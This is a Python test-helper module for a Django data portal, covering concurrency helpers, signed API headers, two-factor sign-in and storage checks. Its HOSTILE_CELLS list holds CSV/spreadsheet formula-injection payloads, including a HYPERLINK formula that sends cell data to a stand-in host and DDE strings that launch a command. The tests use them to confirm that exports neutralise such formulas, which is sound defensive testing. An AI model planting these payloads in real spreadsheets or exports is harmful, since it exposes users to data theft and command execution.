"""Small helpers shared by tests: waiting on another process (a Celery worker, a killed child), committing from
another session, signing a call as an API client."""

import secrets
import time

# The source networks of test API clients: the test client's (and a live server's) calls come from loopback.
LOOPBACK = ["127.0.0.0/8", "::1/128"]


def wait_for(predicate, timeout: float = 30.0, interval: float = 0.1) -> bool:
    """Poll `predicate` until it is true (True) or `timeout` seconds pass (False)."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(interval)
    return False


def commit_elsewhere(*statements: tuple[str, list]) -> None:
    """Run (sql, params) statements in another database session and commit them: a concurrent writer, for tests of
    what a page reads while someone else commits (use with django_db(transaction=True))."""
    import psycopg
    from django.db import connection

    params = {k: v for k, v in connection.get_connection_params().items() if k != "context"}
    with psycopg.connect(**params, autocommit=True) as other:
        for sql, args in statements:
            other.execute(sql, args)


def database_quiet(timeout: float = 20.0) -> bool:
    """Wait until no other session of the test database is running a statement or holds a transaction open (a live
    server's thread still answering a request the client gave up on), so a transactional test's teardown (TRUNCATE)
    does not deadlock with it. True when quiet."""
    from django.db import connection

    def quiet() -> bool:
        with connection.cursor() as cur:
            cur.execute("SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                        "AND pid <> pg_backend_pid() AND backend_type = 'client backend' "
                        "AND state IN ('active', 'idle in transaction', 'idle in transaction (aborted)')")
            return cur.fetchone()[0] == 0

    return wait_for(quiet, timeout=timeout)


def pool_children(pid: int) -> list[int]:
    """The live child processes of process `pid` (a Celery prefork worker's pool children), from /proc."""
    import os
    from pathlib import Path

    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        fields = stat.rsplit(")", 1)[1].split()  # after "(command)": state, ppid, …
        if int(fields[1]) == pid and fields[0] != "Z":
            found.append(int(entry))
    return found


class TableLock:
    """Another database session holding a table in ACCESS EXCLUSIVE mode (a context manager): whatever reads or
    writes the table waits there, so a test can catch a job mid-way. `waiting()` is true once some other session
    waits for this lock."""

    def __init__(self, table: str):
        self.table = table

    def __enter__(self):
        import psycopg
        from django.db import connection

        params = {k: v for k, v in connection.get_connection_params().items() if k != "context"}
        self.conn = psycopg.connect(**params)
        from psycopg import sql

        name = sql.Identifier(*self.table.split("."))  # ("pool.r7": a resource table)
        self.conn.execute(sql.SQL("LOCK TABLE {} IN ACCESS EXCLUSIVE MODE").format(name))
        self.pid = self.conn.info.backend_pid
        return self

    def waiting(self) -> bool:
        from django.db import connection

        with connection.cursor() as cur:
            cur.execute("SELECT count(*) FROM pg_stat_activity WHERE %s = ANY(pg_blocking_pids(pid))", [self.pid])
            return cur.fetchone()[0] > 0

    def __exit__(self, *exc):
        self.conn.rollback()
        self.conn.close()


def commit_before(monkeypatch, owner, name: str, *statements: tuple[str, list]) -> None:
    """Make `owner.name` (a function a page calls between two of its reads) first commit `statements` in another
    session (commit_elsewhere), then run as before: a concurrent writer committing in the middle of the page."""
    original = getattr(owner, name)

    def committing_first(*args, **kwargs):
        commit_elsewhere(*statements)
        return original(*args, **kwargs)

    monkeypatch.setattr(owner, name, committing_first)


def signed_headers(client_id: str, secret: str, method: str, path: str, query: str = "", body: bytes = b"",
                   *, timestamp: int | None = None, nonce: str | None = None) -> dict[str, str]:
    """Django test-client keyword headers (HTTP_X_…) of a correctly signed call."""

    from security.signing.scheme import sign

    ts = str(int(time.time()) if timestamp is None else timestamp)
    nonce = nonce or secrets.token_hex(16)
    return {
        "HTTP_X_CLIENT_ID": client_id,
        "HTTP_X_TIMESTAMP": ts,
        "HTTP_X_NONCE": nonce,
        "HTTP_X_SIGNATURE": sign(secret, method, path, query, ts, nonce, body),
    }


# Cell values a spreadsheet would evaluate (or that look close to it): every download is tested with each of them
# in every column it writes (portal.cells).
HOSTILE_CELLS = [
    "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
    "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-x",
]


def unquoted_csv_cell(field: str) -> str:
    """The text a CSV field of a download stands for: portal.cells puts one `'` before a formula-like value."""
    from portal.cells import is_formula_like

    if field.startswith("'") and is_formula_like(field[1:]):
        return field[1:]
    assert not is_formula_like(field), f"live formula in a CSV: {field!r}"
    return field


def xlsx_text(value: str) -> str:
    """The text an XLSX string cell reads back as: XML turns a CR into a LF (openpyxl writes it as it is)."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def assert_no_formula(book) -> None:
    """No cell of any sheet of the openpyxl workbook `book` is a formula."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def sign_in(client, user):
    """Sign `client` (a Django test Client or DRF APIClient) in as `user`, the way that person's session would be
    after a complete login. Every test signs people in through here (never `client.force_login` directly), so a
    change to what a complete login is (a second factor) is made in one place: a user who must use two-factor login
    (portal.services.twofactor.otp_required) gets a confirmed TOTP device if they have none, and the session is
    marked verified with it. Returns the client.
    """
    from django_otp import DEVICE_ID_SESSION_KEY
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from portal.services.twofactor import otp_required

    client.force_login(user)
    if otp_required(user):
        # The second factor, as portal.services.twofactor.mark_session_verified leaves it after a correct code.
        device = (TOTPDevice.objects.filter(user=user, confirmed=True).first()
                  or TOTPDevice.objects.create(user=user, name="测试验证器", confirmed=True))
        session = client.session
        session[DEVICE_ID_SESSION_KEY] = device.persistent_id
        session.save()
    return client


def otp_verified(user):
    """`user` as a service sees the actor of a session that passed its second factor (request.user after
    OTPMiddleware): with a confirmed TOTP device, made if needed, as `otp_device`. For tests that call a service
    needing a verified session (portal.services.tokens.token_create) directly. Returns the user."""
    from django_otp.plugins.otp_totp.models import TOTPDevice

    user.otp_device = (TOTPDevice.objects.filter(user=user, confirmed=True).first()
                       or TOTPDevice.objects.create(user=user, name="测试验证器", confirmed=True))
    return user


def resource_tables_mismatch(limit: int = 5) -> list[str]:
    """The datasets whose resource table `pool.r<id>` does not mirror their records (issue 18's switch in steps:
    storage.moving.mirror), each with a few record ids: a missing or extra row, or a different key digest, version,
    update time or deletion. (Not the row digest: the mirror converts a value stored before an approved retype, as
    the table's migration did, and digests the converted row.) [] when the connection cannot run a query (the test
    broke it itself)."""
    from django.db import DatabaseError, connection, transaction
    from django.db.transaction import TransactionManagementError

    out = []
    try:
        with transaction.atomic(), connection.cursor() as cur:
            cur.execute("SELECT DISTINCT dataset_id FROM aggregation_record ORDER BY 1")
            for (dataset_id,) in cur.fetchall():
                cur.execute("SELECT to_regclass(%s)", [f"pool.r{dataset_id}"])
                if cur.fetchone()[0] is None:
                    out.append(f"#{dataset_id}: no table")
                    continue
                cur.execute(
                    "SELECT coalesce(r.id, t.id) FROM (SELECT * FROM aggregation_record WHERE dataset_id = %s) r "  # noqa: S608 (an int)
                    f"FULL JOIN pool.r{int(dataset_id)} t ON t.id = r.id "
                    "WHERE r.id IS NULL OR t.id IS NULL OR r.key_hash <> t.key_hash "
                    "OR r.version <> t.version OR r.updated_at <> t.updated_at "
                    "OR r.deleted_at IS DISTINCT FROM t.deleted_at ORDER BY 1 LIMIT %s", [dataset_id, limit])
                if ids := [r[0] for r in cur.fetchall()]:
                    out.append(f"#{dataset_id}: records {ids}")
    except (DatabaseError, TransactionManagementError):
        return []
    return out


def stored_rows(dataset, *, include_deleted: bool = True, **kwargs) -> list:
    """The rows of `dataset`'s resource table as the readers read them (aggregation.storage.reading.Row, id order),
    deleted ones included unless told: what the product wrote, in both modes of issue 18's switch (records written
    and mirrored, or the tables written themselves)."""
    from aggregation.storage import reading

    return reading.rows(dataset, include_deleted=include_deleted, **kwargs)


def stored_row(dataset, key: str, *, include_deleted: bool = True):
    """The table row of subject key `key` (reading.Row; deleted included unless told), None when there is none."""
    from aggregation.storage import reading

    return reading.by_key(dataset, key, include_deleted=include_deleted)


def row_values(row) -> dict[str, str]:
    """A reading.Row's values in clear {item: canonical text} (its token opened; empty values absent)."""
    from aggregation.storage import reading
    from security import crypto

    (secret,) = reading.decrypted([row], crypto.cipher())
    assert secret is not None, f"row {row.id}: its token does not authenticate"
    return {**row.values, **secret}


def stored_values(dataset, key: str, *, include_deleted: bool = True) -> dict[str, str] | None:
    """The clear {item: value} stored for subject key `key` (token opened), None when the table has no such row."""
    row = stored_row(dataset, key, include_deleted=include_deleted)
    return None if row is None else row_values(row)


def live_count(dataset) -> int:
    """How many live (not deleted) rows `dataset`'s resource table holds."""
    from aggregation.storage import reading

    return reading.count(dataset)


def stored_count(*, include_deleted: bool = True) -> int:
    """How many rows all resource tables hold together (deleted ones included unless told): what
    `Record.objects.count()` told while the records were the rows."""
    from aggregation.models import Dataset
    from aggregation.storage import reading
    from aggregation.storage.ddl import table_exists

    return sum(reading.count(d, include_deleted=include_deleted)
               for d in Dataset.objects.order_by("pk") if table_exists(d.pk))


def load_inserts(n: int) -> int:
    """The insert history rows a load of `n` new rows writes: none once the tables are written (the row's job_id and
    the job's file_sha256 prove it, issue 18), one a row on the records path."""
    from aggregation.storage import tables_written

    return 0 if tables_written() else n


def json_schema(node):
    """OpenAPI 3.0's schema dialect as JSON Schema: `nullable` → a "null" type; x- extensions dropped."""
    if isinstance(node, list):
        return [json_schema(n) for n in node]
    if not isinstance(node, dict):
        return node
    out = {k: json_schema(v) for k, v in node.items() if not k.startswith("x-") and k != "nullable"}
    if node.get("nullable") and "type" in node:
        out["type"] = [node["type"], "null"]
    return out


def closed_by_client(response) -> None:
    """Close a streamed response as a client going away does: the test client disconnects close_old_connections
    around a close, so the test's connection (and its transaction) survives it."""
    from django.core.signals import request_finished
    from django.db import close_old_connections

    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def answers(url: str) -> bool:
    """Whether `url` (a loopback health check) answers 200 within 5 s."""
    import urllib.request

    try:
        with urllib.request.urlopen(url, timeout=5) as response:  # noqa: S310 - our loopback URL
            return response.status == 200
    except OSError:
        return False
